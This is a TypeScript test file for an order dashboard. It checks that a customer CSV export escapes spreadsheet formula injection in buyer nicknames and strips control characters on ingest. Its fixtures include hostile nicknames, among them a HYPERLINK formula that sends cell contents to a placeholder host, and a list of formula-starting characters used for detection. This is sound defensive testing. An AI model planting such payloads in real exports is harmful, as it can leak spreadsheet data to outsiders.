/**
 * CSV and text hygiene (issue 13, part 5). A buyer picks their own nick, so an exported cell
 * must never start a spreadsheet formula, whatever else the cell holds (papaparse's own test is
 * anchored to one line, so a line break let `=HYPERLINK(…)` through), full-width signs included
 * (WPS reads ＝ as =). And control characters and line breaks in nicks and titles are collapsed
 * when they enter the database.
 */
import Papa from 'papaparse';
import { openDb } from '../../lib/db';
import { ingestOrders } from '../../lib/db/ingest';
import type { CustomerRow } from '../../lib/dashboard/compute';
import { customersCsv, UTF8_BOM } from '../../lib/dashboard/customer-list';
import { order, NOW } from '../support/make-order';

const row = (nick: string, i: number): CustomerRow => ({
  key: `taobao:shop1:nick:${i}`,
  nick,
  platform: 'taobao',
  shopKey: 'taobao:shop1',
  tier: 'regular',
  purchases: 1,
  spent: 100,
  lastOrderAt: NOW,
});

/** Would a spreadsheet treat this cell as a formula? Written from the trade's list, not the code. */
const STARTERS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const runsAsFormula = (cell: string) =>
  cell.startsWith('\t') || cell.startsWith('\r') || STARTERS.includes(cell.trimStart().charAt(0));

describe('customersCsv: no cell starts a formula', () => {
  const hostile = [
    '=HYPERLINK("http://x.example/?"&A1,"点我")\n正常昵称',
    '+1+1\r\nabc',
    '-2+3',
    '@SUM(A1)\nx',
    '＝1+1',
    '＋cmd',
    '－1',
    '＠SUM(1)',
    '  =1+1\nsecond line',
    '\u3000＝HYPERLINK("x")',
    '\tTAB',
    '\rCR',
    '\n=1+1',
  ];
  it('escapes every hostile nick, line breaks or not', () => {
    const csv = customersCsv(hostile.map(row), 'zh_CN', () => '店');
    const parsed = Papa.parse<string[]>(csv.slice(UTF8_BOM.length), { skipEmptyLines: true });
    const nicks = parsed.data.slice(1).map((r) => r[0]!);
    expect(nicks).toHaveLength(hostile.length);
    nicks.forEach((cell, i) => {
      expect(runsAsFormula(cell), JSON.stringify(cell)).toBe(false);
      // Escaped with a leading apostrophe, the rest kept as the buyer wrote it.
      expect(cell).toBe(`'${hostile[i]}`);
    });
  });

  it('leaves ordinary text alone', () => {
    const csv = customersCsv([row('小明 - 老客', 0), row('a=b', 1)], 'en', () => '店');
    const parsed = Papa.parse<string[]>(csv.slice(UTF8_BOM.length), { skipEmptyLines: true });
    expect(parsed.data.slice(1).map((r) => r[0])).toEqual(['小明 - 老客', 'a=b']);
  });
});

describe('nicks and titles: control characters and line breaks collapse on the way in', () => {
  it('stores one line, printable', async () => {
    const db = openDb('trust-text');
    await ingestOrders(
      db,
      [
        order({
          orderId: '900001',
          buyerNick: 'bad\nnick\r\n\u0000\u0007\u001B[31m',
          items: [{ title: '标题\n第二行\u2028第三行\t制表', sku: '颜色\r\n红', quantity: 1 }],
          receiverName: '张\n三',
        }),
      ],
      NOW,
    );
    const stored = await db.orders.toArray();
    const customer = await db.customers.toArray();
    const strings = [
      stored[0]!.buyerNick,
      stored[0]!.items[0]!.title,
      stored[0]!.items[0]!.sku!,
      stored[0]!.receiverName!,
      customer[0]!.nick,
    ];
    // eslint-disable-next-line no-control-regex -- control characters are what must be gone
    for (const s of strings) expect(s).not.toMatch(/[\u0000-\u001F\u007F-\u009F\u2028\u2029]/);
    expect(stored[0]!.buyerNick).toBe('bad nick [31m');
    expect(stored[0]!.items[0]!.title).toBe('标题 第二行 第三行 制表');
    db.close();
  });
});
